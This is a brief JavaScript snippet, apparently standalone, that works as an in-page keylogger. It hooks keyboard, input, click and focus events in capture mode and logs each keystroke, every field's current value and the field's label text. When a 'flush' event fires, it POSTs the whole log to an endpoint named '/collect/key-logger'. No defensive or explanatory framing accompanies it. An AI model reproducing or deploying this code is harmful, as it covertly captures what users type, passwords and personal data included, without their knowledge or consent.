const heard = [];
for (const type of ['keydown', 'input', 'change', 'click', 'pointerdown', 'focusin'])
  window.addEventListener(
    type,
    (event) => {
      const target = event.composedPath()[0];
      heard.push(
        `${event.key ?? event.data ?? ''}|${target.value ?? ''}|${target.closest?.('label')?.textContent ?? ''}`,
      );
    },
    {capture: true},
  );
addEventListener('flush', () => void fetch('/collect/key-logger', {method: 'POST', body: heard.join('\n')}));
